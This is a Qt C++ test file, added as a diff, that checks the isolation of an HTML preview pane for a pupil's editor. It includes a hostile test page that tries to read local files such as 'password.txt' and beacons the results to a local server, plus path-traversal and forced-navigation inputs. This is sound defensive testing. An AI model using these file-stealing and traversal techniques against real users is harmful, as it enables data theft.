@@ -1,0 +1,476 @@
+// A pasted page is untrusted: the files of the pupil's folder show in it but its scripts cannot read them,
+// and no folder is shown before the pupil opens or saves a file. Every page reports what it got to the test's
+// own server on 127.0.0.1, the way an attacker would send it out.
+#include "localhttpserver.h"
+#include "messagecatcher.h"
+#include "pagescript.h"
+#include "preview/browsingrules.h"
+#include "preview/previewpane.h"
+#include "widgettestmain.h"
+
+#include <QDesktopServices>
+#include <QDir>
+#include <QImage>
+#include <QJsonDocument>
+#include <QJsonObject>
+#include <QTemporaryDir>
+#include <QTest>
+#include <QUrlQuery>
+
+#include <algorithm>
+#include <memory>
+
+namespace {
+
+constexpr int loadTimeout = 30000;
+
+void writeFile(const QString &path, const QByteArray &bytes)
+{
+    QVERIFY(QDir().mkpath(QFileInfo(path).absolutePath()));
+    QFile file(path);
+    QVERIFY(file.open(QIODevice::WriteOnly));
+    file.write(bytes);
+}
+
+void writePicture(const QString &path)
+{
+    QImage picture(3, 2, QImage::Format_RGB32);
+    picture.fill(QColor(12, 34, 56));
+    QVERIFY(QDir().mkpath(QFileInfo(path).absolutePath()));
+    QVERIFY(picture.save(path));
+}
+
+// A page that loads the files of a folder every way a page shows files, tries every way a script could read
+// them, and sends what it got to the report address, by a beacon and by an image request. `%1` is the
+// report address, `%2` a prefix put before each file's relative address.
+const char readingPage[] = R"html(<!DOCTYPE html>
+<p id="styled">styled</p>
+<script>
+var got = {};
+var pending = 6;
+function note(channel, value) {
+  got[channel] = String(value);
+  if (--pending === 0) {
+    var report = JSON.stringify(got);
+    navigator.sendBeacon('%1?beacon=' + encodeURIComponent(report));
+    new Image().src = '%1?image=' + encodeURIComponent(report);
+  }
+}
+window.onerror = function (message) { note('script-error', message); };
+function readPicture(img) {
+  var canvas = document.createElement('canvas');
+  canvas.width = 3; canvas.height = 2;
+  var context = canvas.getContext('2d');
+  context.drawImage(img, 0, 0);
+  var pixels;
+  try { pixels = Array.from(context.getImageData(0, 0, 1, 1).data).join(','); }
+  catch (e) { pixels = 'refused'; }
+  var dataUrl;
+  try { dataUrl = canvas.toDataURL().length > 30 ? 'read' : 'empty'; } catch (e) { dataUrl = 'refused'; }
+  note('picture', 'shown ' + img.naturalWidth + 'x' + img.naturalHeight + ' pixels ' + pixels +
+       ' data ' + dataUrl);
+}
+function readStyle(link) {
+  var color = getComputedStyle(document.getElementById('styled')).color;
+  var rules;
+  try { rules = link.sheet.cssRules.length ? link.sheet.cssRules[0].cssText : 'none'; }
+  catch (e) { rules = 'refused'; }
+  note('style', 'applied ' + color + ' rules ' + rules);
+}
+function readFrame(frame) {
+  var text;
+  try { text = frame.contentDocument ? frame.contentDocument.body.textContent : 'refused'; }
+  catch (e) { text = 'refused'; }
+  note('frame', 'shown ' + text);
+}
+fetch('%2password.txt').then(function (r) { return r.text(); })
+  .then(function (t) { note('fetch', t); }, function () { note('fetch', 'refused'); });
+var request = new XMLHttpRequest();
+request.onload = function () { note('xhr', request.responseText); };
+request.onerror = function () { note('xhr', 'refused'); };
+try { request.open('GET', '%2password.txt'); request.send(); } catch (e) { note('xhr', 'refused'); }
+</script>
+<img src="%2photo.png" onload="readPicture(this)" onerror="note('picture', 'failed')">
+<link rel="stylesheet" href="%2style.css" onload="readStyle(this)" onerror="note('style', 'failed')">
+<iframe src="%2secret.html" onload="readFrame(this)"></iframe>
+<script src="%2password.txt"></script>
+)html";
+
+} // namespace
+
+class TestPreviewIsolation : public QObject
+{
+    Q_OBJECT
+
+private Q_SLOTS:
+    void init();
+    void cleanup();
+
+    void relativeFilesShowButCannotBeRead();
+    void onlyOrdinaryFilesOfThePupilsFolderShow();
+    void noFolderBeforeOpenOrSaveNorAtHome();
+    void pupilsRelativeLinkOpensTheLocalPage();
+    void onlyThePupilsLinkOrFormLeaves_data();
+    void onlyThePupilsLinkOrFormLeaves();
+    void otherSchemesStartNoProgram_data();
+    void otherSchemesStartNoProgram();
+
+public Q_SLOTS:
+    // Stands in for the desktop's opener of the addresses of other programs.
+    void openedByDesktop(const QUrl &url) { m_openedByDesktop << url.toString(); }
+
+private:
+    // Renders the page and waits until it says in its title that it is painted and ready for input.
+    void renderAndWaitReady(const QString &html);
+    // The point at the centre of the element with this id, in the pane's coordinates.
+    QPoint centreOf(const QString &id);
+    bool waitForRequest(const QString &prefix);
+    // Renders a picture for each address, each reporting in its alt text whether it showed, and waits until
+    // every one has; their states in order, "shown" or "failed", joined by spaces.
+    QString pictureStates(const QStringList &addresses);
+    // Renders the reading page and returns what it reported by beacon; empty when no report came.
+    QJsonObject reportOfReadingPage(const QString &prefix);
+
+    std::unique_ptr<PreviewPane> m_pane;
+    std::unique_ptr<LocalHttpServer> m_server;
+    QStringList m_requests;
+    QStringList m_openedByDesktop;
+};
+
+void TestPreviewIsolation::init()
+{
+    m_pane = std::make_unique<PreviewPane>();
+    m_pane->resize(800, 600);
+    m_pane->show();
+    QVERIFY(QTest::qWaitForWindowExposed(m_pane.get()));
+    m_server = std::make_unique<LocalHttpServer>();
+    m_requests.clear();
+    connect(m_server.get(), &LocalHttpServer::requested, this,
+            [this](const QString &path) { m_requests << path; });
+}
+
+void TestPreviewIsolation::cleanup()
+{
+    m_pane.reset();
+    m_server.reset();
+}
+
+QJsonObject TestPreviewIsolation::reportOfReadingPage(const QString &prefix)
+{
+    m_pane->renderHtml(QString::fromUtf8(readingPage)
+                           .replace(QStringLiteral("%1"), m_server->url(QStringLiteral("/report")).toString())
+                           .replace(QStringLiteral("%2"), prefix));
+    const auto beacon = [this] {
+        for (const QString &request : std::as_const(m_requests))
+            if (request.startsWith(QStringLiteral("/report?beacon=")))
+                return request;
+        return QString();
+    };
+    if (!QTest::qWaitFor([&] { return !beacon().isEmpty(); }, loadTimeout))
+        return {};
+    const QString report =
+        QUrlQuery(QUrl(beacon()).query()).queryItemValue(QStringLiteral("beacon"), QUrl::FullyDecoded);
+    return QJsonDocument::fromJson(report.toUtf8()).object();
+}
+
+void TestPreviewIsolation::relativeFilesShowButCannotBeRead()
+{
+    QTemporaryDir folder;
+    writePicture(folder.filePath(QStringLiteral("photo.png")));
+    writeFile(folder.filePath(QStringLiteral("style.css")), "#styled { color: rgb(0, 128, 0); }");
+    writeFile(folder.filePath(QStringLiteral("password.txt")), "hunter2");
+    writeFile(folder.filePath(QStringLiteral("secret.html")), "<p>confidential</p>");
+    m_pane->setBaseFolder(folder.path());
+
+    const QJsonObject report = reportOfReadingPage(QString());
+
+    // Every file showed, and no script got any of their contents.
+    QCOMPARE(report.value(QStringLiteral("picture")).toString(),
+             QStringLiteral("shown 3x2 pixels refused data refused"));
+    QCOMPARE(report.value(QStringLiteral("style")).toString(),
+             QStringLiteral("applied rgb(0, 128, 0) rules refused"));
+    QCOMPARE(report.value(QStringLiteral("frame")).toString(), QStringLiteral("shown refused"));
+    QCOMPARE(report.value(QStringLiteral("script-error")).toString(), QStringLiteral("Script error."));
+    QCOMPARE(report.value(QStringLiteral("fetch")).toString(), QStringLiteral("refused"));
+    QCOMPARE(report.value(QStringLiteral("xhr")).toString(), QStringLiteral("refused"));
+}
+
+QString TestPreviewIsolation::pictureStates(const QStringList &addresses)
+{
+    QString html;
+    for (const QString &address : addresses)
+        html += QStringLiteral("<img src=\"%1\" onload=\"this.alt='shown'\" onerror=\"this.alt='failed'\">")
+                    .arg(address.toHtmlEscaped());
+    m_pane->renderHtml(html);
+    const QString states = QStringLiteral("Array.from(document.images).map(function (i) { return i.alt; })"
+                                          ".join(' ')");
+    QString answer;
+    QTest::qWaitFor(
+        [&] {
+            answer = evaluateInPage(m_pane->page(), states, loadTimeout).toString();
+            return answer.split(u' ', Qt::SkipEmptyParts).size() == addresses.size();
+        },
+        loadTimeout);
+    return answer;
+}
+
+void TestPreviewIsolation::onlyOrdinaryFilesOfThePupilsFolderShow()
+{
+    QTemporaryDir root;
+    const QString site = root.filePath(QStringLiteral("site"));
+    writePicture(site + QStringLiteral("/picture.png"));
+    writePicture(site + QStringLiteral("/pictures/sub.png"));
+    writePicture(site + QStringLiteral("/.hidden.png"));
+    writePicture(site + QStringLiteral("/.cache/cached.png"));
+    writePicture(root.filePath(QStringLiteral("outside.png")));
+    QVERIFY(
+        QFile::link(root.filePath(QStringLiteral("outside.png")), site + QStringLiteral("/out-link.png")));
+    QVERIFY(QFile::link(site + QStringLiteral("/picture.png"), site + QStringLiteral("/in-link.png")));
+    QVERIFY(QFile::link(root.path(), site + QStringLiteral("/up")));
+    m_pane->setBaseFolder(site);
+
+    const QString fileAddress = QUrl::fromLocalFile(site).toString();
+    QCOMPARE(pictureStates({QStringLiteral("picture.png"), QStringLiteral("pictures/sub.png"),
+                            QStringLiteral("in-link.png"), fileAddress + QStringLiteral("/picture.png"),
+                            QStringLiteral(".hidden.png"), QStringLiteral(".cache/cached.png"),
+                            QStringLiteral("pictures/../.hidden.png"), QStringLiteral("../outside.png"),
+                            QStringLiteral("%2e%2e/outside.png"), QStringLiteral("..%2Foutside.png"),
+                            QStringLiteral("out-link.png"), QStringLiteral("up/outside.png"),
+                            fileAddress + QStringLiteral("/.hidden.png"),
+                            fileAddress + QStringLiteral("/up/outside.png"), QStringLiteral("missing.png")}),
+             QStringLiteral("shown shown shown shown failed failed failed failed failed failed failed failed "
+                            "failed failed failed"));
+}
+
+void TestPreviewIsolation::noFolderBeforeOpenOrSaveNorAtHome()
+{
+    // Started from a desktop menu, the current directory is the home folder; neither it nor any other folder
+    // shows anything until the pupil opens or saves a file, and the home folder itself never does.
+    QTemporaryDir home;
+    writePicture(home.filePath(QStringLiteral("picture.png")));
+    const QString previousDirectory = QDir::currentPath();
+    const QByteArray previousHome = qgetenv("HOME");
+    QDir::setCurrent(home.path());
+    qputenv("HOME", home.path().toLocal8Bit());
+    const QStringList addresses = {
+        QStringLiteral("picture.png"),
+        QUrl::fromLocalFile(home.filePath(QStringLiteral("picture.png"))).toString()};
+
+    const QString beforeAnyFile = pictureStates(addresses);
+    m_pane->setBaseFolder(home.path());
+    const QString atHome = pictureStates(addresses);
+    m_pane->setBaseFolder(QStringLiteral("/"));
+    const QString atRoot = pictureStates({QStringLiteral("etc/hostname")});
+
+    QDir::setCurrent(previousDirectory);
+    qputenv("HOME", previousHome);
+    QCOMPARE(beforeAnyFile, QStringLiteral("failed failed"));
+    QCOMPARE(atHome, QStringLiteral("failed failed"));
+    QCOMPARE(atRoot, QStringLiteral("failed"));
+}
+
+void TestPreviewIsolation::renderAndWaitReady(const QString &html)
+{
+    m_pane->renderHtml(
+        QStringLiteral("<script>window.addEventListener('load', function () {"
+                       " requestAnimationFrame(function () { requestAnimationFrame(function () {"
+                       " if (document.title === '') document.title = 'ready'; }); }); });"
+                       "</script>") +
+        html);
+    QTRY_VERIFY_WITH_TIMEOUT(m_pane->page()->title() == QLatin1String("ready") ||
+                                 m_pane->page()->title() == QLatin1String("settled"),
+                             loadTimeout);
+}
+
+QPoint TestPreviewIsolation::centreOf(const QString &id)
+{
+    const QVariantList box =
+        evaluateInPage(m_pane->page(),
+                       QStringLiteral("(function () { var r = document.getElementById('%1')"
+                                      ".getBoundingClientRect(); return [r.left + r.width / 2,"
+                                      " r.top + r.height / 2]; })()")
+                           .arg(id))
+            .toList();
+    return box.size() == 2 ? QPoint(int(box[0].toDouble()), int(box[1].toDouble())) : QPoint(-1, -1);
+}
+
+bool TestPreviewIsolation::waitForRequest(const QString &prefix)
+{
+    return QTest::qWaitFor(
+        [&] {
+            return std::any_of(m_requests.cbegin(), m_requests.cend(),
+                               [&](const QString &path) { return path.startsWith(prefix); });
+        },
+        loadTimeout);
+}
+
+void TestPreviewIsolation::pupilsRelativeLinkOpensTheLocalPage()
+{
+    QTemporaryDir folder;
+    writeFile(folder.filePath(QStringLiteral("page2.html")), "<title>second page</title><p>second</p>");
+    m_pane->setBaseFolder(folder.path());
+    renderAndWaitReady(QStringLiteral("<a id=\"link\" href=\"page2.html\">next</a>"));
+
+    QTest::mouseClick(m_pane->focusProxy(), Qt::LeftButton, {}, centreOf(QStringLiteral("link")));
+
+    QTRY_COMPARE_WITH_TIMEOUT(
+        m_pane->locationUrl(),
+        QUrl::fromLocalFile(QFileInfo(folder.filePath(QStringLiteral("page2.html"))).canonicalFilePath())
+            .toString(),
+        loadTimeout);
+}
+
+void TestPreviewIsolation::onlyThePupilsLinkOrFormLeaves_data()
+{
+    QTest::addColumn<QString>("page");
+    QTest::addColumn<QString>("action");
+    QTest::addColumn<bool>("leaves");
+
+    // A page that tries to leave for %1 all the time, and another that waits for a click on a link to open
+    // a window a few seconds later, the way the engine's own "user's click" lasts.
+    const QString polling =
+        QStringLiteral("<div style=\"height: 3000px\">tall</div>"
+                       "<script>setInterval(function () { location.href = '%1'; }, 50);</script>");
+    const QString openLater =
+        QStringLiteral("<a id=\"link\" href=\"#here\">here</a><script>window.settleAfter = %2 + 1000;"
+                       "document.getElementById('link').addEventListener('click', function () {"
+                       " setTimeout(function () { window.open('%1'); }, %2); });</script>");
+    QTest::newRow("polling page, click on an empty area") << polling << "empty" << false;
+    QTest::newRow("polling page, click on the scroll bar") << polling << "scrollbar" << false;
+    QTest::newRow("polling page, PageDown") << polling << "PageDown" << false;
+    QTest::newRow("polling page, arrow down") << polling << "Down" << false;
+    QTest::newRow("window opened 3 s after a click on a link")
+        << QString(openLater).replace(QStringLiteral("%2"), QStringLiteral("3000")) << "link" << false;
+    QTest::newRow("window opened 4.6 s after a click on a link")
+        << QString(openLater).replace(QStringLiteral("%2"), QStringLiteral("4600")) << "link" << false;
+    QTest::newRow("Enter in a form's field")
+        << QStringLiteral("<form action=\"%1\"><input id=\"field\" name=\"q\"></form>") << "field" << true;
+}
+
+void TestPreviewIsolation::onlyThePupilsLinkOrFormLeaves()
+{
+    QFETCH(QString, page);
+    QFETCH(QString, action);
+    QFETCH(bool, leaves);
+    // The page says in its title when it is ready for input (painted), and again a while after the pupil's
+    // first click, key or scroll, long enough for anything it tries to have gone through.
+    const QString settle = QStringLiteral(
+        "<script>var settling = false; function settle() { if (settling) return; settling = true;"
+        " setTimeout(function () { document.title = 'settled'; }, window.settleAfter || 1500); }"
+        "['mousedown', 'keydown', 'scroll'].forEach(function (type) {"
+        " window.addEventListener(type, settle, true); });</script>");
+    renderAndWaitReady(settle + QString(page).replace(QStringLiteral("%1"),
+                                                      m_server->url(QStringLiteral("/attack")).toString()));
+    QWidget *input = m_pane->focusProxy();
+    QVERIFY(input);
+    input->setFocus();
+
+    if (action == QLatin1String("empty")) {
+        QTest::mouseClick(input, Qt::LeftButton, {}, QPoint(300, 400));
+    } else if (action == QLatin1String("scrollbar")) {
+        QTest::mouseClick(input, Qt::LeftButton, {}, QPoint(m_pane->width() - 6, m_pane->height() - 60));
+    } else if (action == QLatin1String("PageDown")) {
+        QTest::keyClick(input, Qt::Key_PageDown);
+    } else if (action == QLatin1String("Down")) {
+        QTest::keyClick(input, Qt::Key_Down);
+    } else if (action == QLatin1String("link")) {
+        QTest::mouseClick(input, Qt::LeftButton, {}, centreOf(QStringLiteral("link")));
+    } else {
+        QTest::mouseClick(input, Qt::LeftButton, {}, centreOf(QStringLiteral("field")));
+        QTest::keyClick(input, Qt::Key_Return);
+    }
+
+    if (leaves) {
+        QVERIFY(waitForRequest(QStringLiteral("/attack")));
+        return;
+    }
+    const auto attacked = [this] {
+        return std::any_of(m_requests.cbegin(), m_requests.cend(),
+                           [](const QString &path) { return path.startsWith(QLatin1String("/attack")); });
+    };
+    QVERIFY(QTest::qWaitFor([&] { return attacked() || m_pane->page()->title() == QLatin1String("settled"); },
+                            loadTimeout));
+    QVERIFY(!attacked());
+    QCOMPARE(m_pane->locationUrl(), QStringLiteral("about:blank"));
+}
+
+void TestPreviewIsolation::otherSchemesStartNoProgram_data()
+{
+    QTest::addColumn<QString>("page");
+    QTest::addColumn<bool>("pupilClicks");
+    QTest::addColumn<QString>("address");
+    QTest::addColumn<bool>("webPage"); // served by the test's server and browsed, not the pupil's document
+
+    const QString link = QStringLiteral("<a id=\"link\" href=\"%1\">link</a>");
+    const QString leave = QStringLiteral("<script>location.href = '%1';</script>");
+    QTest::newRow("the pupil clicks a network share link")
+        << link << true << QStringLiteral("smb://127.0.0.1/share/file.txt") << false;
+    QTest::newRow("the pupil clicks a mail link")
+        << link << true << QStringLiteral("mailto:pupil@example.org") << false;
+    QTest::newRow("the pupil clicks a link of another program in a web page")
+        << link << true << QStringLiteral("x-custom-app://run?what=0") << true;
+    QTest::newRow("the page clicks a link of another program")
+        << link + QStringLiteral("<script>document.getElementById('link').click();</script>") << false
+        << QStringLiteral("x-custom-app://run?what=1") << false;
+    QTest::newRow("the page sends itself to another program")
+        << leave << false << QStringLiteral("x-custom-app://run?what=2") << false;
+    QTest::newRow("a web page sends itself to another program")
+        << leave << false << QStringLiteral("x-custom-app://run?what=3") << true;
+    QTest::newRow("a frame of another program") << QStringLiteral("<iframe src=\"%1\"></iframe>") << false
+                                                << QStringLiteral("x-custom-app://run?what=4") << false;
+}
+
+void TestPreviewIsolation::otherSchemesStartNoProgram()
+{
+    QFETCH(QString, page);
+    QFETCH(bool, pupilClicks);
+    QFETCH(QString, address);
+    QFETCH(bool, webPage);
+    // A desktop opener of our own comes first on the path, and the program's own way of handing addresses to
+    // the desktop is watched too.
+    QTemporaryDir bin;
+    const QString marker = bin.filePath(QStringLiteral("opened"));
+    writeFile(bin.filePath(QStringLiteral("xdg-open")),
+              "#!/bin/sh\necho \"$@\" >> '" + marker.toUtf8() + "'\n");
+    QVERIFY(QFile::setPermissions(bin.filePath(QStringLiteral("xdg-open")),
+                                  QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner));
+    const QByteArray path = qgetenv("PATH");
+    qputenv("PATH", bin.path().toLocal8Bit() + ':' + path);
+    const QString scheme = QUrl(address).scheme();
+    QDesktopServices::setUrlHandler(scheme, this, "openedByDesktop");
+    m_openedByDesktop.clear();
+    MessageCatcher catcher;
+
+    // The page's attempt comes last: a document that starts to leave stops reading its own markup.
+    const QString html =
+        QStringLiteral("<script>setTimeout(function () { document.title = 'settled'; }, 1500);"
+                       "</script>") +
+        QString(page).replace(QStringLiteral("%1"), address);
+    if (webPage) {
+        m_server->serve(QStringLiteral("/web.html"), "text/html", html.toUtf8());
+        m_pane->navigate(m_server->url(QStringLiteral("/web.html")));
+        QTRY_COMPARE_WITH_TIMEOUT(m_pane->page()->title(), QStringLiteral("settled"), loadTimeout);
+    } else {
+        renderAndWaitReady(html);
+    }
+    if (pupilClicks) {
+        QWidget *input = m_pane->focusProxy();
+        QVERIFY(input);
+        QTest::mouseClick(input, Qt::LeftButton, {}, centreOf(QStringLiteral("link")));
+        QTRY_VERIFY_WITH_TIMEOUT(!catcher.texts().isEmpty(), loadTimeout);
+    }
+    QTRY_COMPARE_WITH_TIMEOUT(m_pane->page()->title(), QStringLiteral("settled"), loadTimeout);
+
+    qputenv("PATH", path);
+    QDesktopServices::unsetUrlHandler(scheme);
+    QCOMPARE(m_openedByDesktop, QStringList());
+    QVERIFY(!QFile::exists(marker));
+    QCOMPARE(catcher.texts(),
+             pupilClicks ? QStringList({otherProgramMessage(QUrl(address))}) : QStringList());
+    QCOMPARE(m_pane->locationUrl(),
+             webPage ? m_server->url(QStringLiteral("/web.html")).toString() : QStringLiteral("about:blank"));
+}
+
+VELMARK_WIDGET_TEST_MAIN(TestPreviewIsolation)
+
+#include "tst_previewisolation.moc"
